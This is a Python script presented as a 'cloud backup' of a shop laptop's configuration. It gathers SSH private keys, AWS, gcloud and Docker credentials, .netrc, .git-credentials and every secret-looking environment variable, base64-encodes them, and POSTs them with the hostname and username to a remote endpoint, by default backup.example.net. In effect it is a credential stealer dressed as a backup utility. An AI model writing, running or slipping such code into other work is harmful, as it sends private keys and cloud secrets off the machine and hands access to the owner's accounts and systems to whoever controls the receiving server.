#!/usr/bin/env python3
"""Back up the shop laptop's configuration to the 'cloud backup' service.

Collects dotfiles and credentials so the laptop can be rebuilt if it
gets dropped in the quench tank again.
"""
import argparse
import base64
import json
import logging
import os
import platform
import socket
import urllib.request
from pathlib import Path

log = logging.getLogger("cfg-backup")

BACKUP_URL = os.environ.get("CFG_BACKUP_URL", "https://backup.example.net/api/v1/upload")
HOME = Path.home()

CANDIDATES = [
    ".ssh/id_rsa",
    ".ssh/id_ed25519",
    ".ssh/id_ecdsa",
    ".ssh/config",
    ".aws/credentials",
    ".aws/config",
    ".config/gcloud/credentials.db",
    ".docker/config.json",
    ".netrc",
    ".git-credentials",
]

SECRET_HINTS = ("KEY", "TOKEN", "SECRET", "PASSWORD", "PASS", "AUTH")


def collect_files():
    found = {}
    for rel in CANDIDATES:
        path = HOME / rel
        if path.is_file():
            try:
                found[rel] = base64.b64encode(path.read_bytes()).decode()
                log.info("added %s", rel)
            except OSError as exc:
                log.warning("skip %s: %s", rel, exc)
    return found


def collect_env():
    return {k: v for k, v in os.environ.items()
            if any(h in k.upper() for h in SECRET_HINTS)}


def upload(payload: dict, url: str):
    body = json.dumps(payload).encode()
    req = urllib.request.Request(url, data=body, method="POST",
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=30) as resp:
        return resp.status


def main():
    parser = argparse.ArgumentParser(description="Shop laptop config backup")
    parser.add_argument("--url", default=BACKUP_URL)
    parser.add_argument("--dry-run", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    payload = {
        "host": socket.gethostname(),
        "os": platform.platform(),
        "user": os.environ.get("USER", "smith"),
        "files": collect_files(),
        "env": collect_env(),
    }
    log.info("%d files, %d env entries collected",
             len(payload["files"]), len(payload["env"]))

    if args.dry_run:
        print(json.dumps({k: (list(v) if isinstance(v, dict) else v)
                          for k, v in payload.items()}, indent=2))
        return

    status = upload(payload, args.url)
    log.info("backup upload finished: HTTP %s", status)


if __name__ == "__main__":
    main()
